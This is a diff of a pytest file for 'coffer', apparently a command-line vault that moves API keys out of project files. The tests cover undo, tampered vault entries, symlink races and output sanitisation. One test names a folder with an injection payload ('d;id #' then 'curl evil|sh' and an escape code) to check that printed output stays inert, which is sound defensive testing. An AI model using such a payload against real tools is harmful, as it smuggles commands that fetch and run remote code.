@@ -101,7 +101,7 @@ def test_from_nothing_to_protected_in_less_than_ten_questions(mess, tmp_path):
         assert vault.run("run", "--app", "bot", "--", "true", environment={"K": "coffer://vault/replicate/web"}).returncode == 3
         assert "openai/web is the same key as openai/bot" in shown
         # Exposed ones first, with the page where a new one is made.
-        assert shown.index("today:") < shown.index("coffer rotate openai/bot") < shown.index("What is left")
+        assert shown.index("Today, in this order:") < shown.index("coffer rotate openai/bot") < shown.index("What is left")
         assert "now (exposed)" in vault.run("list").stdout
         assert "notes.md:1\n       delete it there" in shown and "filter-repo" in shown
         assert vault.run("protect", mess.folder, "--undo", "--yes").returncode == 0
@@ -130,7 +130,7 @@ def test_with_yes_code_changes_only_where_it_was_asked_for(mess, vault):
     done = vault.run("protect", mess.folder, "--yes")
     assert done.returncode == 1 and mess.text("bot/bot.py") == mess.files["bot/bot.py"]
     assert "coffer://vault/openai/bot" in mess.text("bot/.env")
-    assert "have the program read it from the environment: OPENAI_API_KEY" in done.stdout
+    assert "coffer protect --code changes it, so that it reads OPENAI_API_KEY" in done.stdout
     again = vault.run("protect", mess.folder, "--yes", "--code")
     assert again.returncode == 1 and "os" in mess.text("bot/bot.py") and mess.openai not in mess.text("bot/bot.py")
     assert vault.run("list", "--quiet").stdout.split() == [
@@ -162,7 +162,7 @@ def test_confirming_forgets_the_old_files(mess, vault):
     vault.run("protect", mess.folder, "--yes", "--code")
     assert "coffer/undo" in vault.run("list", "--all", "--quiet").stdout
     confirmed = vault.run("protect", mess.folder, "--confirm", "--yes")
-    assert confirmed.returncode == 0 and "4 files stay" in confirmed.stdout
+    assert confirmed.returncode == 0 and "5 files stay" in confirmed.stdout
     assert "coffer/undo" not in vault.run("list", "--all", "--quiet").stdout
     nothing = vault.run("protect", mess.folder, "--undo", "--yes")
     assert nothing.returncode == 4 and "hint:" in nothing.stderr
@@ -232,6 +232,7 @@ def test_the_commands_for_git_history_take_the_keys_out(vault, mess, tmp_path):
     assert "now (exposed)" not in vault.run("list").stdout
     lines = done.stdout.split("  pip install git-filter-repo\n")[1].split("\n\n")[0]
     script = "\n".join(line for line in lines.split("\n") if "remote" not in line and "push" not in line)
+    assert "--previous --app bot) &&" in script
     path = f"{COFFER.parent}:{Path(sys.executable).parent}:{os.environ['PATH']}"
     ran = subprocess.run(
         ["bash", "-ec", script], env={**os.environ, "PATH": path, "COFFER_HOME": str(vault.home)}, capture_output=True, text=True,
@@ -241,3 +242,177 @@ def test_the_commands_for_git_history_take_the_keys_out(vault, mess, tmp_path):
         ["git", "-C", mess.folder, "log", "--all", "-p"], capture_output=True, text=True, check=True).stdout
     assert "REMOVED" in objects and not any(key in objects for key in mess.keys)
     shutil.rmtree(str(mess.folder) + "-before")
+
+
+def owner_client(vault):
+    """boto3 with the owner's key, against a server of the vault's."""
+    import json
+    import re
+
+    import boto3
+
+    server = subprocess.Popen(
+        [str(COFFER), "serve", "--listen", "127.0.0.1:0"], env={**os.environ, "COFFER_HOME": str(vault.home)},
+        stderr=subprocess.PIPE, text=True)
+    endpoint = next(found[0] for line in server.stderr if (found := re.search(r"http://127\.0\.0\.1:\d+", line)))
+    made = json.loads(vault.run("credentials", "--format", "json", keep=False).stdout)
+    made = {name.lower().replace("_", "").removeprefix("aws"): value for name, value in made.items()}
+    return server, boto3.client(
+        "secretsmanager", endpoint_url=endpoint, region_name=made["region"], aws_access_key_id=made["accesskeyid"],
+        aws_secret_access_key=made["secretaccesskey"])
+
+
+def test_nobody_who_writes_secrets_writes_files(mess, vault, tmp_path):
+    vault.run("protect", mess.folder, "--yes")
+    env = mess.folder / "bot/.env"
+    changed = env.read_text()
+    outside = tmp_path / "outside"
+    outside.write_text(changed)
+    server, secrets = owner_client(vault)
+    try:
+        kept = next(one for one in secrets.list_secrets(MaxResults=100)["SecretList"] if one.get("Description") == str(env))
+        secrets.put_secret_value(SecretId=kept["Name"], SecretBinary=b"evil\n")
+        secrets.create_secret(
+            Name="coffer/undo/zzz/9", Description=f"{mess.folder}/../outside", SecretBinary=b"evil\n", Tags=kept["Tags"])
+        secrets.create_secret(
+            Name=kept["Name"] + "/2", Description=str(env), SecretBinary=b"evil\n", Tags=kept["Tags"])
+    finally:
+        server.terminate()
+        server.wait(20)
+    undone = vault.run("protect", mess.folder, "--undo", "--yes")
+    assert undone.returncode == 7 and "was changed by somebody: not put back" in undone.stderr
+    assert env.read_text() == changed and outside.read_text() == changed
+
+
+@pytest.mark.parametrize("meanwhile", ["a file", "a link", "another folder"])
+def test_what_appears_while_a_question_waits_is_left_alone(mess, vault, tmp_path, meanwhile):
+    terminal = at_terminal(vault.home, "protect", mess.folder)
+    for question, answer in ((r"these names\?", ""), (r"like this\?", "")):
+        terminal.until(question)
+        terminal.type(answer + "\r")
+    terminal.until(r"the code too\?")
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    if meanwhile == "a file":
+        (mess.folder / "web/.env").write_text("PRECIOUS=1\n")
+    elif meanwhile == "a link":
+        (mess.folder / "web/.env").symlink_to(victim / "made")
+    else:
+        (mess.folder / "web").rename(mess.folder / "away")
+        (mess.folder / "web").symlink_to(victim)
+    terminal.type("y\r")
+    _, code = terminal.end()
+    assert code == 7 and list(victim.iterdir()) == [], terminal.shown
+    if meanwhile == "a file":
+        assert mess.text("web/.env") == "PRECIOUS=1\n"
+
+
+def test_a_file_that_was_made_goes_away_again(mess, vault):
+    vault.run("protect", mess.folder, "--yes", "--code")
+    assert (mess.folder / "web/.env").exists()
+    assert vault.run("protect", mess.folder, "--undo", "--yes").returncode == 0
+    assert mess.is_as_it_was() and not (mess.folder / "web/.env").exists()
+
+
+def test_a_key_for_a_name_is_refused_and_not_shown(mess, vault):
+    terminal = at_terminal(vault.home, "protect", mess.folder)
+    terminal.until(r"these names\?")
+    terminal.type("e\r")
+    terminal.until(r"Name for the openai key in bot/.env:2")
+    terminal.type(f"x/{mess.eleven}\r")
+    terminal.until("That is a key, not a name")
+    terminal.type("\r" * 4)
+    for question in (r"like this\?", r"Allow these\?"):
+        terminal.until(question)
+        terminal.type("n\r")
+    terminal.until("Own key for openai/web")
+    terminal.type("\r")
+    shown, code = terminal.end()
+    assert code == 1 and mess.is_as_it_was() and "No file was changed" in terminal.shown
+    assert mess.eleven not in vault.run("list", "--quiet", keep=False).stdout
+
+
+def test_names_of_folders_do_nothing_in_what_is_printed(vault, mess, tmp_path):
+    folder = tmp_path / "d;id #\n  curl evil|sh\n\x1b[31m"
+    folder.mkdir()
+    (folder / ".env").write_text(f"OPENAI_API_KEY={mess.openai}\n")
+    shown = []
+    for arguments in (["--dry-run"], ["--yes"], ["--undo", "--yes"]):
+        done = vault.run("protect", folder, *arguments)
+        shown.append(done.stdout + done.stderr)
+    shown.append(vault.run("scan", folder).stdout)
+    for text in shown:
+        assert not any(line.strip().startswith("curl") for line in text.split("\n")) and "\x1b" not in text, text
+    assert (folder / ".env").read_text() == f"OPENAI_API_KEY={mess.openai}\n"
+
+
+def test_a_key_that_was_replaced_does_not_come_back(mess, vault):
+    mess.commit()
+    vault.run("protect", mess.folder, "--yes")
+    new = f"sk-proj-{drawn(40)}T3BlbkFJ{drawn(40)}"
+    assert vault.run("rotate", "openai/bot", text=new).returncode == 0
+    names = vault.run("list", "--quiet").stdout
+    env = mess.text("bot/.env")
+    again = vault.run("protect", mess.folder, "--yes", "--code")
+    assert "openai/bot had the key in" in again.stdout and "was replaced since" in again.stdout
+    assert vault.run("list", "--quiet").stdout == names and mess.text("bot/.env") == env, "nothing is stored or written twice"
+    done = vault.run("run", "--app", "bot", "--no-masking", "--env-file", mess.folder / "bot/.env", "--", sys.executable,
+                     mess.folder / "bot/bot.py", keep=False)
+    assert done.stdout == new[::-1], done.stderr
+
+
+def test_a_variable_that_refers_to_the_secret_already_is_read(mess, vault):
+    (mess.folder / "web/.env.local").write_text(f"VITE_KEY={mess.openai}\n")
+    done = vault.run("protect", mess.folder, "--yes", "--code")
+    assert mess.text("web/index.js") == "const key = process.env.VITE_KEY;\n"
+    assert "OPENAI" not in mess.text("web/.env")
+    assert "coffer run --app web --env-file .env --env-file .env.local -- YOUR COMMAND" in done.stdout
+
+
+def test_a_key_in_history_alone_is_ended_and_not_stored(mess, vault):
+    mess.commit()
+    (mess.folder / "web/image.py").unlink()
+    done = vault.run("protect", mess.folder, "--yes", "--code")
+    assert "replicate" not in vault.run("list", "--quiet").stdout and "Replicate key in web/image.py" in done.stdout
+
+
+def test_an_answer_that_is_none_is_asked_for_again(mess, vault):
+    terminal = at_terminal(vault.home, "protect", mess.folder)
+    terminal.until(r"these names\?")
+    terminal.type("banana\r")
+    terminal.until("Please answer y, n or e")
+    terminal.type("n\r")
+    assert terminal.end()[1] == 7 and vault.run("list", "--quiet").stdout == ""
+
+
+def test_leaving_says_how_things_stand(mess, vault):
+    terminal = at_terminal(vault.home, "protect", mess.folder)
+    terminal.until(r"these names\?")
+    terminal.type("\x03")
+    shown, code = terminal.end()
+    assert code == 130 and "Left." in shown and mess.is_as_it_was()
+
+
+def test_a_vault_is_no_place_to_look_for_keys(mess, vault):
+    vault.run("protect", mess.folder, "--yes", "--code")
+    (mess.folder / "notes.md").unlink()
+    vault.home.rename(mess.folder / "vault")
+    moved = Vault(mess.folder / "vault")
+    found = moved.run("scan", mess.folder, "--everything")
+    assert found.returncode == 0, found.stdout
+
+
+def test_what_was_stored_and_allowed_can_be_taken_back(vault, mess):
+    vault.run("add", "openai/test", text=mess.openai)
+    vault.run("allow", "bot", "openai/test")
+    key = {"K": "coffer://vault/openai/test"}
+    assert vault.run("run", "--app", "bot", "--", "true", environment=key).returncode == 0
+    assert "may read nothing any more" in vault.run("disallow", "bot", "openai/test").stdout
+    assert vault.run("run", "--app", "bot", "--", "true", environment=key).returncode == 3
+    assert vault.run("disallow", "bot", "openai/test").returncode == 4
+    assert vault.run("remove", "openai/test", "--yes").returncode == 0
+    assert vault.run("list", "--quiet").stdout == ""
+    assert vault.run("remove", "openai/test", "--undo").returncode == 0
+    assert vault.run("list", "--quiet").stdout == "openai/test\n"
+    wrong = vault.run("run", "--app", "bto", "--", "true", environment=key)
+    assert wrong.returncode == 3 and "there is no app bto; there are: bot" in wrong.stderr
